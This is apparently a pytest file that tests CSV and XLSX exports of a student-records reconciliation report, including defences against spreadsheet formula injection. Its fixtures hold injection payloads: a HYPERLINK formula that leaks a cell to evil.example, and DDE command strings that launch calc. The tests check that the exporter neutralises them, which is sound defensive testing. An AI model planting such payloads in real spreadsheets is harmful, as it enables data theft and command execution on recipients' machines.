"""`workbench report --export csv,xlsx`: the exceptions, open requests and transcripts awaiting
our acknowledgment beside the HTML, read back and compared with the reconciliation."""

from __future__ import annotations

import csv
import re
import sqlite3
import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from tests.report.conftest import NOW, crafted_tables
from tests.report.test_deliver import small_reconcile
from workbench import reconcile
from workbench.cli import app
from workbench.export import FORMULA_START, export, spreadsheet_safe, write_csv
from workbench.report import find_summary, open_store
from workbench.report.exports import EXPORT_TABLES, export_formats, write_exports
from workbench.store import Store

TABLES = tuple(EXPORT_TABLES)
KEYS = {
    "exceptions": "id",
    "open_requests": "request_id",
    "transcripts_awaiting_ack": "transcript_id",
}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return small_reconcile(tmp_path, monkeypatch)


def expected(db: Path, html: Path) -> dict[str, pd.DataFrame]:
    """The three tables, from a reconciliation computed here at the report's moment."""
    summary = find_summary(html.with_suffix(".ipynb"))
    assert summary is not None
    with open_store(db) as store:
        rec = reconcile.reconcile(reconcile.load(store, as_of=summary["as_of"]), sla_days=5)
    return {
        "exceptions": rec.exceptions,
        "open_requests": rec.requests[rec.requests["state"] == "awaiting_response"],
        "transcripts_awaiting_ack": rec.transcripts[rec.transcripts["state"] == "awaiting_ack"],
    }


@pytest.mark.slow
def test_csv_and_xlsx_beside_the_report_hold_the_reconciliation(folder, report_copy):
    args = ("report", "--no-pull", "--db", str(report_copy), "--export", "csv,xlsx")
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    lines = result.stdout.strip().splitlines()
    html = Path(lines[-1])
    stem = html.with_suffix("")
    csvs = [Path(f"{stem}.{name}.csv") for name in TABLES]
    xlsx = Path(f"{stem}.xlsx")
    assert lines[-6:-2] == [str(p) for p in [*csvs, xlsx]]  # printed before the report's paths
    want = expected(report_copy, html)
    assert len(want["exceptions"]) and len(want["open_requests"])

    for name, path in zip(TABLES, csvs, strict=True):
        got = pd.read_csv(path, dtype=str, keep_default_na=False)
        frame = want[name]
        assert list(got.columns) == list(frame.columns)
        assert len(got) == len(frame)
        assert got[KEYS[name]].tolist() == frame[KEYS[name]].astype(str).tolist()
        if name == "exceptions":
            for column in ("kind", "severity", "detail", "suggested_action", "side"):
                assert got[column].tolist() == frame[column].fillna("").astype(str).tolist()

    book = openpyxl.load_workbook(xlsx, read_only=True)
    assert book.sheetnames == list(TABLES)
    for name in TABLES:
        rows = list(book[name].iter_rows(values_only=True))
        frame = want[name]
        header = [
            f"{c}_utc" if isinstance(frame[c].dtype, pd.DatetimeTZDtype) else c
            for c in frame.columns
        ]
        assert list(rows[0]) == header
        assert len(rows) - 1 == len(frame)
        key = header.index(KEYS[name])
        assert [str(r[key]) for r in rows[1:]] == frame[KEYS[name]].astype(str).tolist()
        times = [c for c in frame.columns if isinstance(frame[c].dtype, pd.DatetimeTZDtype)]
        if times and len(frame):  # UTC, without a zone (xlsx has none)
            column, first = header.index(f"{times[0]}_utc"), frame[times[0]].iloc[0]
            cell = rows[1][column]
            assert (cell is None and pd.isna(first)) or pd.Timestamp(cell) == first.tz_convert(
                "UTC"
            ).tz_localize(None).floor("ms")
    book.close()


@pytest.mark.parametrize("value", ["pdf", "csv,json", ",", "xlsx;csv"])
def test_an_unknown_format_exits_2_naming_the_formats(folder, value):
    result = CliRunner().invoke(app, ["report", "--no-pull", "--db", str(folder / "any.db"),
                                      "--export", value])  # fmt: skip
    assert result.exit_code == 2
    text = " ".join(re.sub(r"[│╭╮╰╯─]", " ", result.output).split())
    assert "--export" in text and "csv, xlsx" in text
    assert not (folder / "data" / "reports").exists()


def test_formats_keep_their_order_and_drop_repeats():
    assert export_formats("xlsx, CSV,xlsx") == ("xlsx", "csv")
    assert export_formats(None) == ()


# partner text a spreadsheet would run: a link that leaks the sheet, DDE, a sum, a tab, a CR
HOSTILE_ORGS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "\t=1+1", "O'Brien", "\r@x"]
HOSTILE_NAMES = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\uff1d1+1"]


def hostile_rec() -> reconcile.Reconciliation:
    """The crafted reconciliation with partner text that looks like formulas, and R2 (open)
    dated 20 hours after the report's moment (a partner clock ahead of ours: within the
    plausible dates, which end a day after it)."""
    tables = crafted_tables()
    requests = tables["requests"]
    requests["source_org_name"] = HOSTILE_ORGS
    requests["student_last_name"] = HOSTILE_NAMES
    requests.loc[1, "request_date"] = NOW + pd.Timedelta(hours=20)
    return reconcile.reconcile(tables, now=NOW, sla_days=5)


def test_partner_text_never_becomes_a_live_formula(tmp_path: Path) -> None:
    rec = hostile_rec()
    paths = write_exports(rec, tmp_path / "r.html", ["csv", "xlsx"])
    assert [p.name for p in paths] == [
        "r.exceptions.csv", "r.open_requests.csv", "r.transcripts_awaiting_ack.csv", "r.xlsx"
    ]  # fmt: skip
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in paths} == {"0o600"}  # student data
    with paths[1].open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["source_org_name"] for r in rows] == ["'" + HOSTILE_ORGS[0], "'" + HOSTILE_ORGS[1]]
    assert [r["student_last_name"] for r in rows] == ["'" + n for n in HOSTILE_NAMES[:2]]
    assert [float(r["age_days"]) for r in rows] == [12.0, 0.0]  # numbers stay numbers
    for path in paths[:3]:
        with path.open(encoding="utf-8", newline="") as f:
            cells = [v for row in csv.reader(f) for v in row]
        assert [v for v in cells if v.startswith(FORMULA_START)] == []
    book = openpyxl.load_workbook(paths[3])
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    sheet = book["open_requests"]
    header = [c.value for c in sheet[1]]
    org = sheet.cell(row=2, column=header.index("source_org_name") + 1)
    assert (org.value, org.data_type, org.quotePrefix) == (HOSTILE_ORGS[0], "s", True)  # as typed
    plain = sheet.cell(row=2, column=header.index("request_id") + 1)
    assert (plain.value, plain.quotePrefix) == ("R1", False)
    ages = [sheet.cell(row=r, column=header.index("age_days") + 1) for r in (2, 3)]
    assert [(c.value, c.data_type) for c in ages] == [(12, "n"), (0, "n")]


@pytest.mark.parametrize("breaking", ["\r", "\n", "\r\n"])
def test_a_line_break_in_a_value_never_starts_a_row_or_a_formula(
    tmp_path: Path, breaking: str
) -> None:
    """A bare CR is a row break to spreadsheets and csv readers: every value holding one is
    quoted, so the text after it stays in its cell, never a cell (or a formula) of its own."""
    frame = pd.DataFrame({"event_id": [f"p017{breaking}=1+1", "p018"], "n": [1, 2]})
    path = tmp_path / "events.csv"
    write_csv(frame, path)
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows == [["event_id", "n"], [f"p017{breaking}=1+1", "1"], ["p018", "2"]]


def test_a_negative_number_is_a_number_not_a_formula() -> None:
    frame = pd.DataFrame({"n": [-1.5, 2.0], "mixed": [-3, "-3"], "t": ["a-b", None]})
    safe = spreadsheet_safe(frame)
    assert safe["n"].tolist() == [-1.5, 2.0] and safe["mixed"].tolist() == [-3, "'-3"]
    assert safe["t"].iloc[0] == "a-b" and pd.isna(safe["t"].iloc[1])
    assert frame["mixed"].tolist() == [-3, "-3"]  # the frame given is left as it was


def test_workbench_export_writes_partner_text_the_same_way(tmp_path: Path) -> None:
    db = tmp_path / "w.db"
    with Store(db) as store:
        run = store.begin_run()
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE runs SET host = ? WHERE id = ?", (HOSTILE_ORGS[0], run))
    conn.close()
    with Store(db, read_only=True) as store:
        done = export(store, "runs", "csv", tmp_path / "runs.csv")
        book = export(store, "runs", "xlsx", tmp_path / "runs.xlsx")
    got = pd.read_csv(done.path, dtype=str, keep_default_na=False)
    assert got["host"].tolist() == ["'" + HOSTILE_ORGS[0]]
    sheet = openpyxl.load_workbook(book.path)["runs"]
    cell = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("host") + 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE_ORGS[0], "s", True)


def test_an_item_dated_in_the_future_is_0_days_old_never_negative(tmp_path: Path) -> None:
    rec = hostile_rec()
    ages = rec.requests.set_index("request_id")["age_days"]
    assert ages["R2"] == 0.0 and ages.min() >= 0
    (path,) = [p for p in write_exports(rec, tmp_path / "r.html", ["csv"]) if "open" in p.name]
    opened = pd.read_csv(path)
    assert opened.set_index("request_id").loc["R2", "age_days"] == 0.0
    assert (opened["age_days"] >= 0).all()
